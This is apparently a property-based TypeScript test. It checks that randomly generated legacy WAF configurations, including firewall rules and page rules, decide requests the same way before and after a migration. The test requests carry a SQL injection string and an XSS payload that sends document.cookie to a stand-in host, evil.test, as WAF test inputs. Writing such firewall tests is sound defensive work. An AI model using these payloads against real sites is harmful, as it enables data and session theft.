/** Random previous configurations, set through the API: what they decide before and after the migration. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { withoutNode } from '../../src/app/modules.ts';
import { managedPackage } from '../../src/catalogs/previous-firewall/managed-package.ts';
import { owaspPackage } from '../../src/catalogs/previous-firewall/owasp-package.ts';
import type { ZoneSections } from '../../src/contracts/snapshot/zone-snapshot.ts';
import { sqlite } from '../support/databases.ts';
import { originOf, siteOf, updateOf } from '../support/edge-snapshots.ts';
import { runQueue } from '../support/run-queue.ts';
import { openTestApi, type TestApi } from '../support/test-api.ts';
import { openTestEdge, type TestEdge } from '../support/test-edge.ts';
import { type Sent, visitAndFlush } from '../support/visit.ts';

const CONFIGURATIONS = Number(process.env['CONFIGURATIONS'] ?? 50);
const PHASE = 'http_request_firewall_managed';
const SQL = `id=${encodeURIComponent('1 union select password from users')}`;
const HTML = `q=${encodeURIComponent('<script>fetch("//evil.test/"+document.cookie)</script>')}`;
const headers = { 'user-agent': 'test', accept: '*/*' };
const FORM = 'application/x-www-form-urlencoded';

const paths = ['/', '/admin/users', '/api/items', '/shop/cart'];
const requests: readonly Sent[] = paths.flatMap((path) =>
  ['page=2', SQL, HTML].flatMap((query) => [
    { path: `${path}?${query}`, headers },
    { path, method: 'POST', body: query, headers: { ...headers, 'content-type': FORM } },
  ]),
);

const { groups } = managedPackage;
const rules = managedPackage.rules.filter(({ description }) =>
  /^(SQL|HTML|Java)/.test(description),
);

const Expression = fc.constantFrom(
  'http.request.uri.path contains "admin"',
  'starts_with(http.request.uri.path, "/api")',
  'http.request.method eq "POST"',
  'ip.src eq 127.0.0.1',
  'http.request.uri.query contains "script"',
  'http.request.uri.path eq "/shop/cart" or http.request.uri.path eq "/"',
);
const FirewallRule = fc.record(
  {
    expression: Expression,
    action: fc.constantFrom('bypass', 'bypass', 'allow', 'log', 'block', 'js_challenge'),
    paused: fc.boolean(),
    priority: fc.integer({ min: 1, max: 9 }),
  },
  { requiredKeys: ['expression', 'action'] },
);
const PageRule = fc.record({
  url: fc.constantFrom('/*', '/admin/*', '/a*', '/api/*', '*cart*', '/shop/cart', '/*users'),
  effect: fc.constantFrom('off', 'on', 'security', 'none'),
  status: fc.constantFrom('active', 'active', 'disabled'),
  priority: fc.integer({ min: 1, max: 9 }),
});
const Configuration = fc.record({
  isOn: fc.constantFrom(true, true, false),
  groups: fc.subarray([...groups]),
  rules: fc.dictionary(
    fc.constantFrom(...rules.map(({ id }) => id)),
    fc.constantFrom('disable', 'simulate', 'block', 'challenge'),
    { maxKeys: 3 },
  ),
  firewallRules: fc.uniqueArray(FirewallRule, {
    maxLength: 4,
    selector: (rule) => rule.expression,
  }),
  pageRules: fc.uniqueArray(PageRule, { maxLength: 4, selector: ({ url }) => url }),
});
type Configuration = typeof Configuration extends fc.Arbitrary<infer Value> ? Value : never;

/** Actions after which the request continues. */
const passive = new Set(['allow', 'bypass', 'log', 'skip']);

const pageActions = {
  off: { id: 'waf', value: 'off' },
  on: { id: 'waf', value: 'on' },
  security: { id: 'disable_security' },
  none: { id: 'ssl', value: 'full' },
} as const;

describe('a migrated firewall', () => {
  let origin: Server;
  let edge: TestEdge;
  let api: TestApi;
  let site: ReturnType<typeof siteOf>;

  before(async () => {
    origin = createServer((incoming, outgoing) => {
      incoming.resume().on('end', () => outgoing.end('ok'));
    }).listen(0, '127.0.0.1');
    await once(origin, 'listening');
    site = siteOf('shop.test', [originOf((origin.address() as AddressInfo).port)]);
    edge = await openTestEdge({ zones: [site.zone], pools: [site.pool] });
    api = await openTestApi(sqlite, { node: { ...withoutNode, isInForce: async () => true } });
  });
  after(async () => {
    await edge.close();
    origin.close();
    await api.close();
  });

  async function call(method: string, path: string, body?: object) {
    const answer = await api.call(method, path, { body });
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    return answer.body.result;
  }

  async function configure(zone: string, configuration: Configuration): Promise<void> {
    const { name } = await call('GET', zone);
    const waf = `${zone}/firewall/waf/packages`;
    await call('PATCH', `${waf}/${owaspPackage.id}`, { sensitivity: 'off' });
    if (configuration.isOn) await call('PATCH', `${zone}/settings/waf`, { value: 'on' });
    for (const { id } of configuration.groups) {
      await call('PATCH', `${waf}/${managedPackage.id}/groups/${id}`, { mode: 'off' });
    }
    for (const [id, mode] of Object.entries(configuration.rules)) {
      await call('PATCH', `${waf}/${managedPackage.id}/rules/${id}`, { mode });
    }
    for (const { expression, action, ...rest } of configuration.firewallRules) {
      const products = action === 'bypass' ? { products: ['waf'] } : {};
      const rule = { filter: { expression }, action, ...products, ...rest };
      await call('POST', `${zone}/firewall/rules`, [rule]);
    }
    for (const { url, effect, ...rest } of configuration.pageRules) {
      const value = url.startsWith('*') ? url : `${name}${url}`;
      const targets = [{ target: 'url', constraint: { operator: 'matches', value } }];
      await call('POST', `${zone}/pagerules`, { targets, actions: [pageActions[effect]], ...rest });
    }
  }

  /** What the edge does with all requests, with the zone as it is stored. */
  async function decisions(zoneId: string): Promise<string[]> {
    const { name } = await call('GET', `/zones/${zoneId}`);
    const sections: Partial<ZoneSections> = { ...site.zone.sections };
    for (const part of api.core.modules.flatMap((module) => module.sections)) {
      if (part.name !== 'rulesets' && part.name !== 'previousFirewall') continue;
      const built = (await part.build([zoneId])).get(zoneId);
      Object.assign(sections, { [part.name]: built });
    }
    const zone = { ...site.zone, sections: { ...site.zone.sections, ...sections } };
    Object.assign(zone.sections, { zone: { ...zone.sections.zone, name } });
    const [balancer] = zone.sections.loadBalancing?.balancers ?? [];
    Object.assign(zone.sections, {
      loadBalancing: { balancers: [{ ...(balancer ?? assert.fail()), name }] },
    });
    await edge.apply(updateOf({ zones: [zone] }));
    const found: string[] = [];
    for (const sent of requests) {
      edge.security.length = 0;
      const { status } = await visitAndFlush(edge, {
        ...sent,
        headers: { ...sent.headers, host: name },
      });
      const acted = edge.security.map(({ fields }) => String(fields.Action));
      const acting = acted.filter((action) => !passive.has(action));
      found.push(`${sent.method ?? 'GET'} ${sent.path}: ${status} ${acting.join()}`);
    }
    return found;
  }

  it('decides as before', async () => {
    const property = fc.asyncProperty(Configuration, async (configuration) => {
      const id = await api.newZone();
      const zone = `/zones/${id}`;
      await configure(zone, configuration);
      const before = await decisions(id);
      const config = await call('GET', `${zone}/waf_migration/config?phase_two=1`);
      const step = `${zone}/rulesets/phases/${PHASE}/entrypoint?waf_migration=pending&phase_two=1`;
      await call('PUT', step, config);
      await runQueue(api.core, api.clock, 'firewall-migration-completion');
      const { migration_state: state } = await call('GET', `${zone}/waf_migration/status`);
      assert.equal(state, 'complete');
      assert.deepEqual(await decisions(id), before);
    });
    await fc.assert(property, { numRuns: CONFIGURATIONS });
  });
});
